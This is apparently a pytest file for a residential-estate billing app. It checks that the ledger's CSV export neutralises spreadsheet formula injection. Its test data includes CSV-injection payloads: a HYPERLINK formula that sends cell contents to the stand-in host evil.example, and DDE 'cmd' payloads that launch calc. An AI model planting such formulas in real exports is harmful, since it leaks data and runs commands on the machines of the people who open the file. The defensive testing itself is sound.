"""The ledger's CSV export opens in a spreadsheet as text: a cell that would start a formula is neutralised
(OWASP CSV injection), and the amounts stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from laoyou.billing import ledger
from laoyou.billing import service as billing
from laoyou.billing.models import Fund
from laoyou.estates.models import Community

from ..conftest import STEWARD_XIUSHAN
from .helpers import actor_for
from .test_fee_plan_pages import log_in

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("停车费 = 300", "停车费 = 300"),
        ("12.50", "12.50"),
        (7, "7"),
        (None, ""),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote(value, cell):
    assert ledger.csv_cell(value) == cell


async def test_the_exported_memos_and_references_cannot_run_as_formulas(client, db):
    # Given income recorded with memos and invoice references that a spreadsheet would run
    xiushan = (await db.exec(select(Community.id).where(Community.name == "秀山花园"))).one()
    steward = await actor_for(db, STEWARD_XIUSHAN)
    for text in FORMULAS:
        await billing.do_record_income(
            db,
            actor=steward,
            community_id=xiushan,
            fund=Fund.public_income,
            amount_fen=1250,
            memo=text,
            attachment_ref=text,
        )
    await db.flush()
    # When the steward downloads the ledger
    await log_in(client, STEWARD_XIUSHAN)
    response = await client.get(f"/staff/communities/{xiushan}/ledger.csv", params={"fund": "public_income"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    # Then no cell starts with a formula character, each of those memos is there behind a quote, amounts are numbers
    assert rows
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ledger.FORMULA_STARTS]
    memos = {row["memo"] for row in rows}
    assert {"'" + text for text in FORMULAS} <= memos
    assert {row["attachment"] for row in rows if row["memo"] in memos} >= {"'" + text for text in FORMULAS}
    assert all(float(row["debit_yuan"]) >= 0 and float(row["credit_yuan"]) >= 0 for row in rows)
